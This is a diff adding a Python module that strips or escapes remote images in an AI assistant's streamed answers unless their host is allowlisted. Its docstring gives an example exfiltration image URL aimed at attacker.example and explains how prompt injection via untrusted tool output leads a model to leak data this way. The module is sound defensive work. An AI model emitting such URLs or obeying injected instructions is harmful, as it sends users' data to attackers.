@@ -1,0 +1,332 @@
+"""Remote images in an answer: neutralised unless their host is allowlisted.
+
+The classic exfiltration after an injection: the model writes
+`![x](https://attacker.example/p?d=<data>)`, the client renders it, and the browser fetches
+the URL, data and all, with no click. What holds whatever the attacker writes is the
+*provenance* of the conversation (it read untrusted tool output) and the *fetch* (an image
+loads by itself), not the words. So in an answer, every image whose URL's host is not in
+`guards.pii.images.allow_hosts` (a host or any subdomain of it) becomes
+`[image removed: <host>]`:
+
+* inline markdown images `![alt](url "title")` (`<url>` destinations, nested brackets and
+  parentheses);
+* HTML tags that fetch by themselves (`<img>`, `<source>`, `<video>`, `<audio>`,
+  `<iframe>`, `<embed>`, `<object>`, `<input>`, `<image>`, `<link>`, `<script>`): the
+  whole tag when any absolute URL in it has a host that is not allowed;
+* reference definitions `[1]: url` (which `![a][1]` uses, before or after): escaped to
+  `\\[1]: url`, so they define nothing and `![a][1]` renders as text. A streamed answer
+  cannot know whether a definition will serve an image or a link, so a definition of a
+  host that is not allowed is escaped either way.
+
+Relative URLs and `data:` images fetch nothing from elsewhere and pass; other schemes than
+http(s) in an image are removed. `\\` counts as `/` (browsers read `https:\\\\host` so).
+
+Streaming: `feed()` returns what is safe to send and holds back only a construct that is
+not finished yet (from its `!`, `<` or line-leading `[`), at most `MAX_HOLD` characters; one
+that runs on longer is released with its opening escaped (`!\\[`, `&lt;img`, `\\[`), so it
+can never become an image later. The scanner is hand-written: each position starts at most
+one bounded parse (`MAX_HOLD`), so the cost is linear in the text.
+"""
+
+from __future__ import annotations
+
+from collections import Counter
+from dataclasses import dataclass, field
+from typing import Literal
+
+from pydantic import BaseModel, ConfigDict, Field, field_validator
+
+#: An unfinished construct is held back at most this long, then released escaped.
+MAX_HOLD = 2048
+#: The entity name counted in redactions, metrics and the audit.
+ENTITY = "REMOTE_IMAGE"
+FETCHING_TAGS = frozenset(
+    {"img", "image", "source", "video", "audio", "iframe", "embed", "object", "input", "link"}
+    | {"script", "track", "picture", "frame"}
+)
+
+
+class ImageSettings(BaseModel):
+    """`guards.pii.images`: remote images in answers (docs/pii.md, "Remote images")."""
+
+    model_config = ConfigDict(extra="forbid")
+
+    #: `tainted` (default): only in answers to a conversation that read untrusted output (a
+    #: tool result, or a message an input guard flagged); `always`: in every answer; `off`.
+    mode: Literal["off", "tainted", "always"] = "tainted"
+    #: Hosts whose images pass (a host covers its subdomains): `cdn.example.com`.
+    allow_hosts: list[str] = Field(default_factory=list)
+
+    @field_validator("allow_hosts")
+    @classmethod
+    def _hosts(cls, v: list[str]) -> list[str]:
+        out = []
+        for h in v:
+            h = h.strip().lower().rstrip(".")
+            if not h or any(c in h for c in "/:@ ?#\\"):
+                raise ValueError(f"{h!r} is not a host name (write `cdn.example.com`)")
+            out.append(h.removeprefix("*."))
+        return out
+
+
+def url_host(url: str) -> str | None:
+    """The host an image URL fetches from; None for one that fetches nothing elsewhere
+    (relative, `data:`, a fragment); `scheme:` for another scheme."""
+    u = url.strip().replace("\\", "/")
+    low = u.lower()
+    scheme = ""
+    i = 0
+    while i < len(low) and (low[i].isalnum() or low[i] in "+.-"):
+        i += 1
+    if 0 < i < len(low) and low[i] == ":" and low[0].isalpha():
+        scheme = low[:i]
+        rest = u[i + 1 :]
+    else:
+        rest = u
+    if scheme and scheme not in ("http", "https"):
+        return None if scheme == "data" else scheme + ":"
+    if not rest.startswith("//"):
+        return (scheme + ":") if scheme and rest else None  # relative, or `https:host`
+    auth = rest.lstrip("/")
+    for stop in "/?#":
+        auth = auth.split(stop, 1)[0]
+    auth = auth.rsplit("@", 1)[-1]
+    if auth.startswith("["):
+        host = auth.split("]", 1)[0] + "]"
+    else:
+        host = auth.split(":", 1)[0]
+    return host.strip().lower().rstrip(".") or "?"
+
+
+def host_allowed(host: str, allow: list[str]) -> bool:
+    return any(host == h or host.endswith("." + h) for h in allow)
+
+
+@dataclass
+class ImageNeutraliser:
+    """Per-text state: feed released text in, get text with remote images neutralised."""
+
+    allow: list[str]
+    counts: Counter[str] = field(default_factory=Counter)
+    #: Hosts removed (at most 20), for the audit.
+    hosts: list[str] = field(default_factory=list)
+    pending: str = ""
+    #: Does `pending` start at the beginning of a line?
+    line_start: bool = True
+
+    def feed(self, text: str) -> str:
+        if not text:
+            return ""
+        self.pending += text
+        return self._run(final=False)
+
+    def flush(self) -> str:
+        return self._run(final=True) if self.pending else ""
+
+    @property
+    def held(self) -> int:
+        return len(self.pending)
+
+    # -- scanning ------------------------------------------------------------------------
+
+    def _run(self, final: bool) -> str:
+        s = self.pending
+        out: list[str] = []
+        start = 0  # s[start:] not emitted yet
+        i = 0
+        n = len(s)
+        while i < n:
+            c = s[i]
+            if c == "!" or c == "<" or (c == "[" and self._at_line_start(s, i)):
+                res = self._parse(s, i, final)
+                if res is None:  # needs more text
+                    if n - i <= MAX_HOLD:
+                        out.append(s[start:i])
+                        self._keep(s, i)
+                        return "".join(out)
+                    # Too long to finish: release it with its opening escaped.
+                    out.append(s[start:i])
+                    out.append(_escaped(s, i))
+                    start = i = i + (2 if c == "!" else 1)
+                    continue
+                end, replacement = res
+                if replacement is not None:
+                    out.append(s[start:i])
+                    out.append(replacement)
+                    start = end
+                    i = end
+                    continue
+            i += 1
+        out.append(s[start:])
+        self._keep(s, n)
+        return "".join(out)
+
+    def _keep(self, s: str, i: int) -> None:
+        if i > 0:
+            self.line_start = s[i - 1] == "\n"
+        self.pending = s[i:]
+
+    def _at_line_start(self, s: str, i: int) -> bool:
+        j = i
+        while j > 0 and s[j - 1] == " " and i - j < 3:
+            j -= 1
+        return self.line_start if j == 0 else s[j - 1] == "\n"
+
+    def _parse(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
+        """At a trigger: (end, replacement or None to leave it), or None: not finished."""
+        c = s[i]
+        if c == "!":
+            return self._inline(s, i, final)
+        if c == "<":
+            return self._tag(s, i, final)
+        return self._definition(s, i, final)
+
+    def _remove(self, host: str) -> str:
+        self.counts[ENTITY] += 1
+        if len(self.hosts) < 20:
+            self.hosts.append(host)
+        return f"[image removed: {host}]"
+
+    def _inline(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
+        n = len(s)
+        if i + 1 >= n:
+            return None if not final else (i + 1, None)
+        if s[i + 1] != "[":
+            return (i + 1, None)
+        close = _match(s, i + 1, "[", "]")
+        if close is None:
+            return _unfinished(n - i, final, i)
+        if close < 0:
+            return (i + 1, None)
+        j = close + 1
+        if j >= n:
+            return None if not final else (i + 1, None)
+        if s[j] != "(":
+            return (i + 1, None)  # a reference image: its definition is checked
+        end = _match(s, j, "(", ")")
+        if end is None:
+            return _unfinished(n - i, final, i)
+        if end < 0:
+            return (i + 1, None)
+        dest = s[j + 1 : end].strip()
+        if dest.startswith("<"):
+            dest = dest[1:].split(">", 1)[0]
+        else:
+            dest = dest.split(None, 1)[0] if dest.split() else ""
+        host = url_host(dest)
+        if host is None or host_allowed(host, self.allow):
+            return (end + 1, None)
+        return (end + 1, self._remove(host))
+
+    def _tag(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
+        n = len(s)
+        j = i + 1
+        while j < n and j - i <= 12 and s[j].isalpha():
+            j += 1
+        if j >= n and not final:
+            return None
+        name = s[i + 1 : j].lower()
+        if name not in FETCHING_TAGS or (j < n and not (s[j].isspace() or s[j] in "/>")):
+            if j >= n:
+                return (i + 1, None)
+            return (i + 1, None)
+        end = s.find(">", j, i + MAX_HOLD + 1)
+        if end < 0:
+            if not final and n - i <= MAX_HOLD:
+                return None
+            # An unterminated fetching tag: a renderer may still close it later.
+            return (j, self._remove("unterminated <" + name + ">"))
+        tag = s[i : end + 1]
+        for host in _tag_hosts(tag):
+            if not host_allowed(host, self.allow):
+                return (end + 1, self._remove(host))
+        return (end + 1, None)
+
+    def _definition(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
+        n = len(s)
+        close = _match(s, i, "[", "]")
+        if close is None:
+            return _unfinished(n - i, final, i)
+        if close < 0 or close + 1 >= n:
+            return (i + 1, None) if close < 0 or final else None
+        if s[close + 1] != ":":
+            return (i + 1, None)
+        j = close + 2
+        while j < n and s[j] in " \t":
+            j += 1
+        if j < n and s[j] == "\n":  # the destination may be on the next line
+            j += 1
+            while j < n and s[j] in " \t":
+                j += 1
+        k = j
+        while k < n and not s[k].isspace():
+            k += 1
+        if (k >= n or j >= n) and not final:
+            return None
+        dest = s[j:k]
+        if dest.startswith("<"):
+            dest = dest[1:].split(">", 1)[0]
+        host = url_host(dest) if dest else None
+        if host is None or host_allowed(host, self.allow):
+            return (i + 1, None)
+        self.counts[ENTITY] += 1
+        if len(self.hosts) < 20:
+            self.hosts.append(host)
+        return (i + 1, "\\[")
+
+
+def _unfinished(held: int, final: bool, i: int) -> tuple[int, str | None] | None:
+    """A construct the text ends inside: hold it (None) while more may come, and past the
+    bound (None: `_run` escapes its opening); at the very end it is no construct."""
+    return (i + 1, None) if final and held <= MAX_HOLD else None
+
+
+def _match(s: str, i: int, open_: str, close: str) -> int | None:
+    """The index of the bracket closing `s[i]`, -1 when it cannot close (a blank line),
+    None when the text ends first (or the bound is reached)."""
+    depth = 0
+    n = min(len(s), i + MAX_HOLD)
+    j = i
+    while j < n:
+        c = s[j]
+        if c == "\\":
+            j += 2
+            continue
+        if c == open_:
+            depth += 1
+        elif c == close:
+            depth -= 1
+            if depth == 0:
+                return j
+        elif c == "\n" and j + 1 < len(s) and s[j + 1] == "\n":
+            return -1  # a paragraph break ends any inline construct
+        j += 1
+    return None
+
+
+def _escaped(s: str, i: int) -> str:
+    if s[i] == "!":
+        return "!\\" + s[i + 1] if i + 1 < len(s) else "!"
+    if s[i] == "<":
+        return "&lt;"
+    return "\\["
+
+
+def _tag_hosts(tag: str) -> list[str]:
+    """Hosts of the absolute URLs in a tag's attributes (`https://h`, `//h`, `http:\\\\h`)."""
+    low = tag.lower().replace("\\", "/").replace("&#47;", "/").replace("&sol;", "/")
+    out = []
+    at = low.find("//")
+    while at >= 0:
+        k = at
+        while k > 0 and (low[k - 1].isalnum() or low[k - 1] in "+.-:"):
+            k -= 1
+        start = k
+        end = at + 2
+        while end < len(low) and not (low[end].isspace() or low[end] in "\"'>"):
+            end += 1
+        host = url_host(low[start:end])
+        if host is not None:
+            out.append(host)
+        at = low.find("//", end)
+    return out
